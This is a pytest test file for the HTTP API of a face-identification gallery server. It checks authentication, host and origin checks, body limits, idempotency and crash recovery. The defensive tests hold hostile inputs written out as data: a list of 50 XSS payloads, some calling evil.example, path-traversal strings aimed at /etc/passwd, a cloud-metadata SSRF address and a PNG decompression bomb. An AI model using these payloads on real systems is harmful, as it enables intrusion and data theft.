"""The HTTP API: what it answers, what it refuses, and what it survives."""

import asyncio
import contextlib
import json
import logging
import re
import shutil
import stat
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import harness_serving as harness
import numpy as np
import pytest
from fastapi.testclient import TestClient
from harness_serving import Fuzzer, Server, embedder, make_gallery, png, violations

import embedlab.serving
from embedlab import Gallery
from embedlab.cli import main
from embedlab.data import fit_image
from embedlab.serving import gate, server
from embedlab.serving.app import PUBLIC, create_app
from embedlab.serving.inbox import Inbox

KEY = "correct-horse-battery"
PAGE = Path(embedlab.serving.__file__).parent / "page"


@pytest.fixture(scope="session")
def template(tmp_path_factory):
    return make_gallery(tmp_path_factory.mktemp("serving") / "door", thumbnails=True)


@pytest.fixture
def folder(template, tmp_path):
    return Path(shutil.copytree(template, tmp_path / "door"))


@pytest.fixture
def gallery(folder):
    with Gallery.open(folder, embedder()) as opened:
        yield opened


@contextlib.contextmanager
def client(gallery, **options):
    application = create_app(gallery, hosts=["testserver", "localhost"], **options)
    headers = {"authorization": f"Bearer {options['key']}"} if options.get("key") else {}
    with TestClient(application, headers=headers) as opened:
        yield opened


@pytest.fixture
def web(gallery):
    with client(gallery) as opened:
        yield opened


def call(application, method, path, headers=(), parts=(), more=True):
    """One request without a server: (status, headers, body, bytes of the request that were asked for)."""
    sent, read, queue = [], 0, list(parts)

    async def receive():
        nonlocal read
        if not queue:
            await asyncio.sleep(30)
        part = queue.pop(0)
        read += len(part)
        return {"type": "http.request", "body": part, "more_body": more or bool(queue)}

    async def send(message):
        sent.append(message)

    path, _, query = path.partition("?")
    pairs = [(name.lower().encode(), value.encode()) for name, value in headers]
    scope = {"type": "http", "method": method, "path": path, "raw_path": path.encode(), "query_string": query.encode(),
             "headers": pairs, "http_version": "1.1", "scheme": "http", "root_path": "",
             "asgi": {"version": "3.0"}}  # fmt: skip
    asyncio.run(application(scope, receive, send))
    body = b"".join(message.get("body", b"") for message in sent[1:])
    return sent[0]["status"], {name.decode(): value.decode() for name, value in sent[0]["headers"]}, body, read


# ---- answers -------------------------------------------------------------------------------------------------------


def test_identify_says_what_the_gallery_says(web, gallery):
    for person in (0, 3, 11, 500, 501):
        said = web.post("/api/identify?k=3", content=png(person, 7)).json()
        image = fit_image(harness.pixels(person, 7), harness.SIZE).transpose(2, 0, 1)[None]
        meant = gallery.identify(image, k=3)[0]
        assert said["label"] == meant.label == (f"person {person}" if person < 12 else None)
        assert said["score"] == round(meant.score, 3)
        assert said["threshold"] == round(meant.threshold, 3)
        assert [near["label"] for near in said["neighbours"]] == meant.neighbours.labels[0]
        thumbnail = web.get(said["neighbours"][0]["thumbnail"])
        assert thumbnail.headers["content-type"] == "image/jpeg"
        assert thumbnail.content == gallery.thumbnail(said["neighbours"][0]["id"])


def test_verify(web):
    assert web.post("/api/verify", files={"image": png(3, 7)}, data={"label": "person 3"}).json()["accepted"] is True
    assert web.post("/api/verify?label=person 4", content=png(3, 7)).json()["accepted"] is False
    assert web.post("/api/verify?label=nobody", content=png(3, 7)).status_code == 404


def test_enroll_as_form_or_body_rename_and_remove(web, gallery):
    first = web.post("/api/enroll", files={"image": ("x", png(50))}, data={"label": "Ada"})
    second = web.post("/api/enroll?label=Ada", content=png(50, 1))
    assert (first.status_code, second.status_code) == (201, 201)
    assert second.json() == {"id": first.json()["id"] + 1, "label": "Ada"}
    assert gallery.counts()["Ada"] == 2
    assert web.post("/api/identify", content=png(50, 2)).json()["label"] == "Ada"
    assert web.post("/api/rename", json={"label": "Ada", "new_label": "Grace"}).json() == {"renamed": 2}
    assert web.post("/api/remove", json={"ids": [second.json()["id"]]}).json() == {"removed": 1}
    assert web.post("/api/remove", json={"label": "Grace"}).json() == {"removed": 1}
    assert web.post("/api/remove", json={"label": "Grace"}).status_code == 404
    assert web.post("/api/rename", json={"label": "person 0", "new_label": "person 1"}).status_code == 409


def test_the_list_comes_in_parts(web):
    whole = web.get("/api/identities").json()
    assert (whole["total"], whole["next"]) == (12, None)
    listed, after = [], ""
    while after is not None:
        part = web.get("/api/identities", params={"after": after, "limit": 5}).json()
        listed, after = listed + part["identities"], part["next"]
    assert listed == whole["identities"]
    assert all(web.get(one["thumbnail"]).status_code == 200 for one in listed)


def test_about_has_the_promise_and_the_curve(web, gallery):
    about = web.get("/api/gallery").json()
    assert (about["identities"], about["templates"], about["fpir"]) == (12, 24, 0.05)
    assert len(about["curve"]) == len(gallery.calibration.curve) > 10
    threshold, *rates = gallery.calibration.curve[0]
    expected = dict(zip(("threshold", "fpir", "bound", "detection"), (round(threshold, 3), *rates), strict=True))
    assert about["curve"][0] == expected


def test_an_uncalibrated_and_an_empty_gallery(tmp_path):
    with Gallery.create(tmp_path / "g", embedder()) as gallery, client(gallery) as web:
        empty = web.post("/api/identify", content=png(1)).json()
        assert (empty["label"], empty["score"], empty["threshold"], empty["neighbours"]) == (None, None, None, [])
        assert (empty["calibrated"], empty["stale"]) == (False, False)
        web.post("/api/enroll?label=a", content=png(1))
        assert web.post("/api/identify", content=png(1)).json()["label"] is None
        assert web.post("/api/verify?label=a", content=png(1)).json()["accepted"] is None


@pytest.mark.parametrize(
    ("content", "text"),
    [
        (b"", "No image came"),
        (b"<html>", "no whole image"),
        (png(1)[:300], "damaged or cut short"),
        (b"%PDF-1.4", "no whole"),
    ],
)
def test_bad_images_are_refused_in_words(web, content, text):
    for path in ("/api/identify", "/api/verify?label=person 1", "/api/enroll?label=person 1"):
        answer = web.post(path, content=content)
        assert answer.status_code == 422
        assert text in answer.json()["detail"]


def test_a_bomb_is_refused_before_it_is_decoded(web):
    import zlib

    def chunk(kind, content):
        return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")

    header = (30_000).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(10**6)))
        + chunk(b"IEND", b"")
    )
    answer = web.post("/api/identify", content=bomb)
    assert answer.status_code == 422
    assert re.search("50 million at most|no whole image", answer.json()["detail"])


def test_forms_without_an_image_or_a_label(web):
    assert "field image" in web.post("/api/identify", data={"image": "text"}, files={"other": b"x"}).json()["detail"]
    assert web.post("/api/identify", content=b"x", headers={"content-type": "multipart/form-data"}).status_code == 400
    for data, query in (({}, ""), ({"label": "a"}, "?label=b")):
        answer = web.post(f"/api/enroll{query}", files={"image": png(1)}, data=data)
        assert answer.status_code == 422
        assert "Name one label" in answer.json()["detail"]


# ---- who may ask ---------------------------------------------------------------------------------------------------


def test_every_route_wants_the_key_before_the_body(gallery):
    application = create_app(gallery, key=KEY, hosts=["localhost"])
    schema = application.openapi()
    routes = [(path, method.upper()) for path, methods in schema["paths"].items() for method in methods]
    assert len(routes) >= 13
    routes += [("/openapi.json", "GET"), ("/nothing", "GET"), ("/", "POST"), ("/api/health", "POST"), ("/", "OPTIONS")]
    for path, method in routes:
        for wrong in ([], [("authorization", f"Bearer {KEY}x")], [("authorization", f"Basic {KEY}")]):
            head = [("host", "localhost"), ("content-length", "1000"), *wrong]
            status, headers, _, read = call(application, method, path.replace("{id}", "1"), head, [b"x" * 1000])
            public = method == "GET" and path in PUBLIC
            assert (status, read) == ((200, 0) if public else (401, 0)), (path, method)
            assert "default-src 'self'" in headers["content-security-policy"]
    assert (
        call(application, "GET", "/api/gallery", [("host", "localhost"), ("authorization", f"Bearer {KEY}")])[0] == 200
    )


@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "", "10.0.0.1", "localhost:x", "[::1", "a@localhost@b"]
)
def test_another_host_is_refused(gallery, host):
    application = create_app(gallery, hosts=["localhost"])
    for path in ("/", "/api/gallery"):
        assert call(application, "GET", path, [("host", host)])[0] == 400
    assert call(application, "GET", "/api/gallery", [("host", "localhost:8000")])[0] == 200
    assert call(create_app(gallery, addresses=True), "GET", "/", [("host", "10.0.0.1:80")])[0] == 200
    assert call(application, "GET", "/", [("host", "localhost"), ("host", "localhost")])[0] == 400


@pytest.mark.parametrize(
    "header",
    [
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": "http://testserver:81"},
        {"sec-fetch-site": "cross-site"},
    ],
)
def test_another_page_may_not_write(web, gallery, header):
    for path in ("/api/remove", "/api/identify", "/api/enroll"):
        assert web.post(path, json={"label": "person 1"}, headers=header).status_code == 403
    assert len(gallery.counts()) == 12
    own = {"origin": "http://testserver", "sec-fetch-site": "same-origin"}
    assert web.post("/api/identify", content=png(1), headers=own).status_code == 200


def test_security_headers_stand_on_every_answer(web):
    for path in ("/", "/page.js", "/api/gallery", "/api/nothing", "/api/health"):
        headers = web.get(path).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["cache-control"] == "no-store"
        assert "server" not in headers


def test_verify_attempts_are_limited_per_label(gallery):
    with client(gallery, verify_per_minute=3) as web:
        statuses = [web.post("/api/verify?label=person 1", content=png(9)).status_code for _ in range(5)]
        assert statuses == [200, 200, 200, 429, 429]
        answer = web.post("/api/verify?label=person 1", content=png(9))
        assert 1 <= int(answer.headers["retry-after"]) <= 20
        assert web.post("/api/verify?label=person 2", content=png(9)).status_code == 200


def test_read_only_changes_nothing(folder):
    with Gallery.open(folder, embedder(), read_only=True) as gallery, client(gallery, read_only=True) as web:
        assert web.post("/api/enroll?label=a", content=png(50)).status_code == 403
        assert web.post("/api/remove", json={"label": "person 1"}).status_code == 403
        assert web.post("/api/rename", json={"label": "person 1", "new_label": "b"}).status_code == 403
        assert web.post("/api/identify", content=png(1)).json()["label"] == "person 1"
        assert web.get("/api/gallery").json()["read_only"] is True
        with pytest.raises(ValueError, match="--inbox and --read-only do not go together"):
            create_app(gallery, read_only=True, inbox_days=1)


# ---- bodies --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/identify", "/api/enroll?label=a", "/api/remove", "/nothing"])
def test_a_large_body_is_refused(gallery, path):
    application = create_app(gallery, hosts=["localhost"], max_body=100_000)
    declared = [("host", "localhost"), ("content-length", "1000000000")]
    status, headers, _, read = call(application, "POST", path, declared, [b"x" * 65536] * 16_000)
    assert (status, read, headers["connection"]) == (413, 0, "close")
    chunked = [("host", "localhost"), ("transfer-encoding", "chunked")]
    status, headers, body, read = call(application, "POST", path, chunked, [b"x" * 65536] * 16_000)
    assert (status, headers["connection"]) == (413, "close")
    assert read <= 100_000 + 65536
    assert "100000 bytes" in json.loads(body)["detail"]


def test_a_slow_body_is_refused_and_blocks_nobody(gallery, monkeypatch):
    monkeypatch.setattr(gate, "SECONDS_FOR_A_BODY", 0.2)
    application = create_app(gallery, hosts=["localhost"])
    assert call(application, "POST", "/api/identify", [("host", "localhost")], [b"x"])[0] == 408


def test_all_bodies_together_are_bounded(gallery):
    async def run():
        application = create_app(gallery, hosts=["localhost"], max_body=1000)
        statuses, release = [], asyncio.Event()

        async def one():
            parts = [b"x" * 900]

            async def receive():
                if parts:
                    return {"type": "http.request", "body": parts.pop(), "more_body": True}
                await release.wait()
                return {"type": "http.disconnect"}

            async def send(message):
                if message["type"] == "http.response.start":
                    statuses.append((message["status"], dict(message["headers"]).get(b"retry-after")))

            scope = {"type": "http", "method": "POST", "path": "/api/identify", "headers": [(b"host", b"localhost")]}
            await application({**scope, "query_string": b"", "root_path": ""}, receive, send)

        tasks = [asyncio.create_task(one()) for _ in range(20)]
        while len(statuses) < 20 - gate.BODIES_AT_ONCE:
            await asyncio.sleep(0.01)
        refused = list(statuses)
        release.set()
        await asyncio.gather(*tasks)
        return refused

    assert asyncio.run(run()) == [(503, b"1")] * (20 - gate.BODIES_AT_ONCE)


def test_uploads_touch_no_temporary_file(web, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile.SpooledTemporaryFile, "rollover", lambda _: pytest.fail("a picture went to the disk"))
    noise = np.random.default_rng(0).integers(0, 256, (900, 900, 3), dtype=np.uint8)
    from io import BytesIO

    from PIL import Image

    file = BytesIO()
    Image.fromarray(noise).save(file, "PNG")
    assert len(file.getvalue()) > 2_000_000
    assert web.post("/api/identify", files={"image": file.getvalue()}).status_code == 200


# ---- many at once --------------------------------------------------------------------------------------------------


def test_requests_at_once_share_forward_passes(gallery):
    sizes, function = [], gallery.embedder.function

    def slow(images):
        sizes.append(len(images))
        time.sleep(0.02)
        return function(images)

    gallery.embedder.function = slow
    with client(gallery) as web, ThreadPoolExecutor(32) as pool:
        sizes.clear()
        people = [i % 12 for i in range(48)]
        answers = list(pool.map(lambda i: web.post("/api/identify", content=png(i, 5)).json()["label"], people))
    assert answers == [f"person {i}" for i in people]
    assert sum(sizes) == 48
    assert len(sizes) < 30
    assert max(sizes) > 1


def test_200_clients_get_an_answer_or_503(gallery):
    function = gallery.embedder.function
    gallery.embedder.function = lambda images: (time.sleep(0.05), function(images))[1]

    async def run():
        application = create_app(gallery, hosts=["localhost"])
        async with application.router.lifespan_context(application):
            return await harness.many_clients(application, 200)

    answers = asyncio.run(run())
    statuses = [answer.status_code for answer in answers]
    assert set(statuses) == {200, 503}
    assert statuses.count(200) >= 64
    for person, answer in enumerate(answers):
        if answer.status_code == 200:
            assert answer.json()["label"] == f"person {person % 12}"
        else:
            assert answer.headers["retry-after"] == "1"


def test_an_error_of_the_model_is_500_without_details(gallery, caplog):
    with client(gallery) as web:
        gallery.embedder.function = lambda images: 1 / 0
        answer = web.post("/api/identify", content=png(1))
        assert (answer.status_code, answer.json()) == (
            500,
            {"detail": "An error in the server; its log has the details."},
        )
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert "ZeroDivisionError" in caplog.text


# ---- the same request again ----------------------------------------------------------------------------------------


def test_repeated_requests_change_nothing(web, gallery):
    key = {"idempotency-key": "one"}
    made = [web.post("/api/enroll?label=Ada", content=png(50), headers=key).json() for _ in range(3)]
    assert made[0] == made[1] == made[2]
    assert gallery.counts()["Ada"] == 1
    assert web.post("/api/enroll?label=Bea", content=png(50), headers=key).status_code == 409

    key = {"idempotency-key": "two"}
    renamed = [web.post("/api/rename", json={"label": "Ada", "new_label": "Bea"}, headers=key) for _ in range(2)]
    assert [(one.status_code, one.json()) for one in renamed] == [(200, {"renamed": 1})] * 2
    assert web.post("/api/remove", json={"label": "person 1"}, headers=key).status_code == 409

    key = {"idempotency-key": "three"}
    removed = [web.post("/api/remove", json={"label": "Bea"}, headers=key) for _ in range(2)]
    assert [(one.status_code, one.json()) for one in removed] == [(200, {"removed": 1})] * 2
    assert "Bea" not in gallery


def test_what_was_done_under_a_key_is_known_after_a_restart(folder):
    requests = [
        ("/api/rename", {"label": "person 1", "new_label": "Ada"}, {"renamed": 2}),
        ("/api/remove", {"label": "Ada"}, {"removed": 2}),
        ("/api/remove", {"ids": [1]}, {"removed": 1}),
    ]
    for _ in range(2):  # the second time by a server that was started anew
        with Gallery.open(folder, embedder()) as gallery, client(gallery) as web:
            for number, (path, body, answer) in enumerate(requests):
                found = web.post(path, json=body, headers={"idempotency-key": f"request {number}"})
                assert (found.status_code, found.json()) == (200, answer)
            assert (len(gallery), "Ada" in gallery) == (21, False)
            other = web.post("/api/remove", json={"label": "person 2"}, headers={"idempotency-key": "request 0"})
            assert other.status_code == 409
            assert "changed 2 templates" in other.json()["detail"]
            bad = web.post(
                "/api/remove", json={"label": "person 2"}, headers={"idempotency-key": "\x81".encode("latin-1")}
            )
            assert (bad.status_code, bad.json()["detail"]) == (
                422,
                "An Idempotency-Key has 1 to 200 printable characters.",
            )


def test_a_removal_that_was_cut_off_before_its_purge_is_purged_when_it_is_repeated(folder, monkeypatch):
    from embedlab.retrieval.store import Store

    with Gallery.open(folder, embedder()) as gallery:
        vector = gallery.embeddings().vectors[0].tobytes()
        with monkeypatch.context() as patch:
            patch.setattr(Store, "erase_traces", lambda _: (_ for _ in ()).throw(KeyboardInterrupt))
            with pytest.raises(KeyboardInterrupt):
                gallery.remove("person 0", purge=True, key="x")
    with Gallery.open(folder, embedder()) as gallery:
        assert gallery.remove("person 0", purge=True, key="x") == 2
        assert not any(vector in path.read_bytes() for path in folder.rglob("*") if path.is_file())
        with pytest.raises(ValueError, match="under the key 'x': it changed 2 templates"):
            gallery.rename("person 1", "person 99", key="x")
        assert gallery.rename("person 1", "person 99", key="y") == gallery.rename("person 1", "person 99", key="y") == 2


def test_the_same_request_at_the_same_time_adds_one(web, gallery):
    with ThreadPoolExecutor(8) as pool:
        made = list(
            pool.map(
                lambda _: web.post("/api/enroll?label=Ada", content=png(50), headers={"idempotency-key": "x"}).json(),
                range(16),
            )
        )
    assert len({one["id"] for one in made}) == 1
    assert gallery.counts()["Ada"] == 1


# ---- what must not come out ----------------------------------------------------------------------------------------


def test_no_vector_no_exact_score_no_path_in_answers_and_no_label_in_the_log(web, gallery, folder, caplog):
    caplog.set_level(logging.DEBUG, logger="embedlab")
    answers = [
        web.post("/api/identify?k=20", content=png(1)),
        web.post("/api/verify?label=person 1", content=png(1)),
        web.get("/api/identities"),
        web.post("/api/enroll?label=Secret Name", content=png(60), headers={"idempotency-key": "k"}),
        web.post("/api/enroll?label=other", content=png(60), headers={"idempotency-key": "k"}),
        web.post("/api/rename", json={"label": "absent name", "new_label": "x"}),
        web.post("/api/remove", json={"label": "Secret Name"}),
        web.get("/api/templates/99999/thumbnail"),
        web.post("/api/identify", content=b"no image"),
    ]
    text = "\n".join(answer.text for answer in answers)
    assert str(folder) not in text
    for answer in answers[:2]:
        assert all(len(digits) <= 3 for digits in re.findall(r"\d\.(\d+)", answer.text))
    longest = max(len(row) for answer in answers for row in lists(answer.json()))
    assert longest <= 20 < gallery.dim
    assert "embedding" not in text
    assert not re.search("Secret|person|absent|label", caplog.text)
    assert caplog.text.count("POST /api/identify 200") == 1


def lists(value):
    if isinstance(value, list):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from lists(inner)


XSS = [
    shape.format(code)
    for code in ("alert(1)", "document.title=1", "fetch('//evil.example')", "import('//evil.example')", "x=1")
    for shape in (
        "<script>{}</script>", "<img src=x onerror={}>", "\"><svg onload={}>", "'-{}-'", "javascript:{}",
        "</title><script>{}", "<iframe srcdoc='<script>{}</script>'>", "{{{{constructor.constructor('{}')()}}}}",
        "<a href=javascript:{}>x</a>", "<details open ontoggle={}>",
    )
]  # fmt: skip


def test_50_hostile_labels_stay_text(web):
    assert len(XSS) == 50
    for number, label in enumerate(XSS):
        made = web.post("/api/enroll", files={"image": png(100 + number)}, data={"label": label})
        assert (made.status_code, made.json()["label"]) == (201, label)
        assert made.headers["content-type"] == "application/json"
    listed = web.get("/api/identities?limit=1000")
    assert set(XSS) <= {one["label"] for one in listed.json()["identities"]}
    script = (PAGE / "page.js").read_text()
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|srcdoc", script)
    markup = (PAGE / "index.html").read_text()
    assert not re.search(r"<script(?![^>]*src=)|\son\w+=|\sstyle=|<style", markup)
    for name in ("page.js", "index.html", "page.css"):
        assert not re.search(
            r"(https?:)?//(?!www\.w3\.org/2000/svg)[a-z]", (PAGE / name).read_text().replace("// ", "")
        )


def test_paths_and_addresses_are_only_names(web, gallery):
    for path in (
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/page/..%2fapp.py",
        "/api/templates/..%2f1/thumbnail",
    ):
        assert web.get(path).status_code in (404, 422)
    for label in ("../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/", "..\\..\\x", "encoder"):
        assert web.post("/api/enroll", files={"image": png(70)}, data={"label": label}).status_code == 201
        assert web.post("/api/remove", json={"label": label}).status_code == 200
    address = web.post("/api/identify", data={"image": "http://169.254.169.254/"}, files={"x": b""})
    assert address.status_code == 422
    assert sorted(path.name for path in gallery.folder.parent.iterdir()) == ["door"]


def fuzz(gallery, count, seed):
    with client(gallery, key=KEY, inbox_days=1, verify_per_minute=10**6) as web:
        schema = web.get("/openapi.json").json()
        fuzzer, statuses, wrong = Fuzzer(schema, seed), {}, []
        for _ in range(count):
            method, url, headers, body, operation = fuzzer.request()
            safe = {name: value.encode() for name, value in headers.items()}
            answer = web.request(method, url, content=body, headers=safe)
            statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
            found = violations(schema, operation, answer.status_code, answer.headers, answer.content)
            if answer.status_code >= 500 or found:
                wrong.append((method, url, headers, body[:200], answer.status_code, answer.text[:300], found))
    assert gallery.check().ok
    return statuses, wrong


def test_fuzz_from_the_schema(gallery):
    statuses, wrong = fuzz(gallery, 400, 0)
    assert not wrong, wrong[:3]
    assert {200, 201, 404, 422} <= set(statuses)  # it reaches both sides


@pytest.mark.full
def test_fuzz_from_the_schema_10_000(gallery):
    statuses, wrong = fuzz(gallery, 10_000, 1)
    print(f"10,000 requests: {dict(sorted(statuses.items()))}")
    assert not wrong, wrong[:3]


def test_the_checks_of_the_fuzzer_find_planted_faults(gallery):
    schema = create_app(gallery).openapi()
    operation = schema["paths"]["/api/identify"]["post"]
    good = {"label": None, "score": 0.5, "threshold": None, "calibrated": False, "neighbours": []}
    good |= {"stale": False, "verified": True}
    headers = {"content-type": "application/json"}
    assert violations(schema, operation, 200, headers, json.dumps(good)) == []
    for bad in ({"score": "0.5"}, {"vector": [1.0]}, {"neighbours": [{"id": 1}]}, {"calibrated": None}):
        assert violations(schema, operation, 200, headers, json.dumps(good | bad))
    assert violations(schema, operation, 418, headers, "{}")
    assert violations(schema, operation, 200, {"content-type": "text/html"}, "")


# ---- the process ---------------------------------------------------------------------------------------------------


def test_any_other_host_needs_a_key(folder, capsys):
    assert main(["serve", str(folder), "--host", "0.0.0.0"]) == 1
    assert "needs a key" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("content", "mode", "text"),
    [
        (KEY, 0o644, "chmod 600"),
        ("short", 0o600, "at least 16 characters"),
        ("two words of a long key", 0o600, "one word"),
        ("é" * 20, 0o600, "cannot be read as a key"),
        (None, 0o600, "openssl rand"),
    ],
)
def test_key_files_are_checked(tmp_path, content, mode, text):
    path = tmp_path / "key"
    if content is not None:
        path.write_text(content)
        path.chmod(mode)
    with pytest.raises(ValueError, match=text):
        server._key(path)


def test_a_port_that_is_taken_and_a_wrong_size(folder, capsys):
    import socket

    with socket.create_server(("127.0.0.1", 0)) as taken:
        assert main(["serve", str(folder), "--port", str(taken.getsockname()[1])]) == 1
    assert "--port 0 takes a free one" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["serve", str(folder), "--max-body", "10 apples"])
    assert "such as 500kB or 10MB" in capsys.readouterr().err


def test_start_lock_and_stop(folder, tmp_path):
    with Server(folder, "--inbox", "1") as started:
        assert started.post("/api/enroll?label=Ada", png(50))[0] == 201
        second = Server(folder)
        with pytest.raises(AssertionError, match=r"open for writing|GalleryLocked"):
            second.start()
        for path in [folder, *folder.rglob("*")]:
            assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
        assert started.stop() == 143
    with Gallery.open(folder, embedder()) as gallery:
        assert gallery.counts()["Ada"] == 1
    log = Path(f"{folder}.log").read_text()
    assert "POST /api/enroll 201" in log
    assert "Ada" not in log


def torment(folder, count):
    """Abuses in 8 threads and slow clients, beside a client that behaves; (answers with 5xx, p99 in s, MB grown)."""

    def resident(pid):
        return int(re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{pid}/status").read_text())[1]) / 1024

    with Server(folder) as started:
        before, stop, delays = resident(started.process.pid), threading.Event(), []

        def behave():
            while not stop.is_set():
                begun = time.perf_counter()
                assert started.post("/api/identify", png(1, 3))[1]["label"] == "person 1"
                delays.append(time.perf_counter() - begun)
                time.sleep(0.02)

        with ThreadPoolExecutor(68) as pool:
            good = pool.submit(behave)
            slow = [pool.submit(harness.loris, started.port, stop) for _ in range(50)]
            abused = list(pool.map(lambda kind: harness.abuse(started.port, kind), range(count)))
            stop.set()
            good.result()
            [one.result() for one in slow]
        failed = [answer for answer in abused if answer[9:10] == b"5"]
        assert started.post("/api/identify", png(1, 3))[0] == 200
        return failed, float(np.quantile(delays, 0.99)), resident(started.process.pid) - before


def test_raw_socket_abuses(folder):
    failed, slowest, grown = torment(folder, 52)
    assert not failed
    assert grown <= 100
    print(f"p99 of another client {slowest:.3f} s")


@pytest.mark.full
def test_raw_socket_abuses_500(folder):
    failed, slowest, grown = torment(folder, 500)
    print(f"500 abuses: {len(failed)} server errors, p99 of another client {slowest:.3f} s, {grown:.0f} MB more")
    assert not failed
    assert slowest < 1
    assert grown <= 100


@pytest.mark.full
def test_who_never_finishes_a_head_is_dropped(folder):
    with Server(folder) as started:
        assert harness.loris(started.port, threading.Event()) <= 30


@pytest.mark.parametrize("rounds", [2, pytest.param(200, marks=pytest.mark.full)])
def test_kill_9_under_load_loses_nothing_that_was_acknowledged(tmp_path, rounds):
    acknowledged, again, wrong = harness.kill_rounds(tmp_path / "door", rounds)
    print(
        f"{rounds} kills: {acknowledged} enrollments, renamings and removals acknowledged, {again} on a second try, "
        f"{len(wrong)} wrong"
    )
    assert acknowledged > 0
    assert not wrong, wrong[:5]


def test_a_server_that_acknowledges_before_the_commit_is_found(tmp_path):
    wrong = []
    for chance in range(8):  # a kill may fall where nothing is on its way
        wrong += harness.kill_rounds(tmp_path / str(chance) / "door", 2, seed=chance, options=["--early"])[2]
        if wrong:
            break
    assert any(kind == "lost" for kind, *_ in wrong)


def test_serving_loads_nothing_heavy():
    code = (
        "import sys, embedlab.serving.server\n"
        "loaded = {'torch', 'pytorch_lightning', 'matplotlib'} & set(sys.modules)\nassert not loaded, loaded"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr


# ---- strangers -----------------------------------------------------------------------------------------------------


def test_unknown_probes_are_kept_only_when_asked_for(gallery, folder):
    with client(gallery) as web:
        web.post("/api/identify", content=png(500))
        assert web.get("/api/inbox").status_code == 404
    assert not (folder / "inbox.db").exists()
    with client(gallery, inbox_days=7) as web:
        for person, shot in ((500, 0), (500, 1), (501, 0), (3, 5)):
            web.post("/api/identify", content=png(person, shot))
        inbox = web.get("/api/inbox").json()
        assert [len(cluster["ids"]) for cluster in inbox["clusters"]] == [2, 1]
        assert web.get(inbox["clusters"][0]["pictures"][0]).headers["content-type"] == "image/png"
        named = {"ids": inbox["clusters"][0]["ids"], "label": "Vera"}
        assert web.post("/api/inbox/name", json=named).json() == {"probes": 2}
        assert web.post("/api/inbox/name", json=named).json() == {"probes": 2}
        assert gallery.counts()["Vera"] == 2
        assert web.post("/api/identify", content=png(500, 2)).json()["label"] == "Vera"
        web.post("/api/inbox/dismiss", json={"ids": inbox["clusters"][1]["ids"]})
        assert web.get("/api/inbox").json()["clusters"] == []


def test_naming_that_was_interrupted_adds_nothing_twice(gallery, tmp_path, monkeypatch):
    inbox = Inbox(tmp_path, days=1)
    images = [harness.pixels(500, shot, 32).transpose(2, 0, 1) for shot in range(3)]
    for image in images:
        inbox.keep(image, gallery.embed(image[None]).vectors)
    ids = list(inbox.clusters(0.5)[0].ids)
    with monkeypatch.context() as patch:
        patch.setattr(inbox, "dismiss", lambda ids: (_ for _ in ()).throw(OSError("killed here")))
        with pytest.raises(OSError, match="killed here"):
            inbox.name(gallery, ids, "Vera")
    inbox.close()
    again = Inbox(tmp_path, days=1)
    again.name(gallery, ids, "Vera")
    assert gallery.counts()["Vera"] == 3
    assert again.clusters(0.5) == []
    stored = gallery.embeddings()
    mine = stored.vectors[[label == "Vera" for label in stored.labels]]
    seen = gallery.embed(np.stack([images[0]])).vectors
    cosine = mine @ (seen / np.linalg.norm(seen)).T
    assert cosine.max() == pytest.approx(1, abs=1e-6)  # exactly the image that was seen
    again.close()


def test_probes_are_erased_when_their_time_is_over(tmp_path, monkeypatch):
    vector = np.full((1, 64), 0.123456, np.float32)
    image = np.random.default_rng(0).integers(0, 256, (3, 32, 32), dtype=np.uint8)
    inbox = Inbox(tmp_path, days=2)
    inbox.keep(image, vector)
    assert vector.tobytes() in (tmp_path / "inbox.db").read_bytes()
    picture = inbox.picture(1)
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + 1.9 * 86_400)
    assert inbox.picture(1) == picture
    monkeypatch.setattr(time, "time", lambda: now + 2.1 * 86_400)
    assert inbox.clusters(0.5) == []
    inbox.close()
    for path in tmp_path.iterdir():
        assert vector.tobytes() not in path.read_bytes()
        assert picture[40:80] not in path.read_bytes()
    with pytest.raises(ValueError, match="above 0"):
        Inbox(tmp_path, days=0)
